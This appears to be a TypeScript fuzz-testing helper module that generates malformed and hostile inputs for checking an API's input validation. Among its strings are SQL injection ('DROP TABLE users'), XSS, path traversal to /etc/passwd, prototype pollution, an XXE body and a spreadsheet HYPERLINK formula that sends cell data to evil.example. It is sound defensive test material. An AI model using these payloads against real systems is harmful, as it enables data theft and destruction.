import fc from 'fast-check';

/** Nested objects `{"a":{"a":…}}` this many levels deep. */
export function deepObject(levels: number): unknown {
  let value: unknown = 'x';
  for (let i = 0; i < levels; i += 1) value = { a: value };
  return value;
}

/** Nested arrays `[[[…]]]` this many levels deep. */
export function deepArray(levels: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < levels; i += 1) value = [value];
  return value;
}

/** Strings that have broken applications before: injection, formulas, paths, unicode traps, number- and date-lookalikes. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t\r\n',
  'NaN',
  'Infinity',
  '-Infinity',
  'null',
  'undefined',
  'true',
  '1e999',
  '-1e999',
  '0x1F',
  '1_000',
  '9'.repeat(40),
  '-1',
  '0',
  '3.5e-400',
  '１２３', // full-width digits
  '٣', // Arabic-Indic digit
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  '0000-00-00',
  '2026-2-3',
  '+02026-09-01',
  '2026-09-01T25:61:00Z',
  '2026-Q5',
  '2026-W60',
  '99999-01',
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  "1; DELETE FROM demands WHERE '1'='1",
  '%',
  '_',
  '\\',
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/dev/zero',
  'file:///etc/passwd',
  '\u0000',
  'a\u0000b',
  '\ud800', // lone high surrogate
  '\udc00x', // lone low surrogate
  '\u202eRTL\u202c', // right-to-left override
  'שלום עולם',
  '\u200b', // zero-width space
  '\ufeff', // BOM as text
  'e\u0301', // combining mark
  '𠮷𩸽', // astral CJK
  '👨‍👩‍👧‍👦',
  '{{7*7}}',
  '${7*7}',
  '__proto__',
  'constructor',
  '$where',
  '文'.repeat(5_000),
];

/** Values of every JSON type that are wrong for most fields, including the JSON-encodable edges of numbers. */
export const NASTY_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  -2_147_483_649,
  2_147_483_648,
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  -1e308,
  5e-324,
  0.1,
  1.5,
  {},
  [],
  [null],
  [[]],
  [{}],
  { $gt: '' },
  { id: 1 },
  JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
  { constructor: { prototype: { polluted: true } } },
  deepObject(50),
  deepArray(50),
  Array.from({ length: 2_000 }, (_, i) => i),
  'x'.repeat(100_000),
];

/** A wrong value for one field: a curated edge case or a random value of any JSON type. */
export const badValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_VALUES) },
  { weight: 1, arbitrary: fc.string() },
  { weight: 1, arbitrary: fc.fullUnicodeString() },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** A wrong value for a query parameter (always a string on the wire); repeated parameters become arrays. */
export const badQueryValue: fc.Arbitrary<string | string[]> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 1, arbitrary: fc.string() },
  { weight: 1, arbitrary: fc.fullUnicodeString() },
  { weight: 1, arbitrary: fc.integer().map(String) },
  { weight: 1, arbitrary: fc.double({ noNaN: true }).map(String) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NASTY_STRINGS), fc.constantFrom(...NASTY_STRINGS)).map(([a, b]) => [a, b]) },
);

/** A raw request body sent as-is: wrong content type, wrong encoding, broken JSON, wrong top-level shape, too large. */
export interface RawBody {
  name: string;
  contentType: string;
  bytes: Buffer;
}

export function rawBodies(valid: unknown): RawBody[] {
  const json = JSON.stringify(valid ?? {});
  const utf8 = (s: string) => Buffer.from(s, 'utf8');
  return [
    { name: 'top-level array', contentType: 'application/json', bytes: utf8(JSON.stringify([valid])) },
    { name: 'top-level null', contentType: 'application/json', bytes: utf8('null') },
    { name: 'top-level string', contentType: 'application/json', bytes: utf8('"hello"') },
    { name: 'top-level number', contentType: 'application/json', bytes: utf8('42') },
    { name: 'empty JSON body', contentType: 'application/json', bytes: Buffer.alloc(0) },
    { name: 'truncated JSON', contentType: 'application/json', bytes: utf8(json.slice(0, Math.max(1, Math.floor(json.length / 2)))) },
    { name: 'JSON with a BOM', contentType: 'application/json', bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(json)]) },
    { name: 'JSON with trailing garbage', contentType: 'application/json', bytes: utf8(`${json}}}`) },
    { name: 'JSON with comments', contentType: 'application/json', bytes: utf8(`/* x */${json}`) },
    { name: 'NaN literal', contentType: 'application/json', bytes: utf8('{"a": NaN}') },
    { name: 'invalid UTF-8 bytes', contentType: 'application/json', bytes: Buffer.concat([utf8('{"title":"'), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82]), utf8('"}')]) },
    { name: 'GB18030 bytes labelled UTF-8', contentType: 'application/json', bytes: Buffer.concat([utf8('{"title":"'), Buffer.from([0xce, 0xc4, 0xc0, 0xbd]), utf8('"}')]) },
    { name: 'UTF-16LE JSON', contentType: 'application/json', bytes: Buffer.from(json, 'utf16le') },
    { name: 'unsupported charset', contentType: 'application/json; charset=utf-7', bytes: utf8(json) },
    { name: 'text/plain body', contentType: 'text/plain', bytes: utf8(json) },
    { name: 'XML body', contentType: 'application/xml', bytes: utf8('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>') },
    { name: 'form-encoded body', contentType: 'application/x-www-form-urlencoded', bytes: utf8('title=%E6%B5%8B&targetUnitIds[]=1&__proto__[polluted]=1') },
    { name: 'multipart without a file', contentType: 'multipart/form-data; boundary=XyZ', bytes: utf8('--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nx\r\n--XyZ--\r\n') },
    { name: 'broken multipart', contentType: 'multipart/form-data; boundary=XyZ', bytes: utf8('--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\ncode,name') },
    { name: 'binary garbage', contentType: 'application/octet-stream', bytes: Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 131 + 7) % 256)) },
    { name: 'deep nesting (1,000 levels)', contentType: 'application/json', bytes: utf8(JSON.stringify({ ...(valid as object), deep: deepObject(1_000) })) },
    { name: 'deep array nesting (1,000 levels)', contentType: 'application/json', bytes: utf8(JSON.stringify(deepArray(1_000))) },
    { name: 'a 1 MB string (over the JSON limit)', contentType: 'application/json', bytes: utf8(JSON.stringify({ ...(valid as object), title: 'x'.repeat(1024 * 1024) })) },
    { name: 'a 900 KB string (under the JSON limit)', contentType: 'application/json', bytes: utf8(JSON.stringify({ ...(valid as object), title: '文'.repeat(300 * 1024) })) },
    { name: '1,000 unknown keys', contentType: 'application/json', bytes: utf8(JSON.stringify({ ...(valid as object), ...Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`k${i}`, i])) })) },
  ];
}
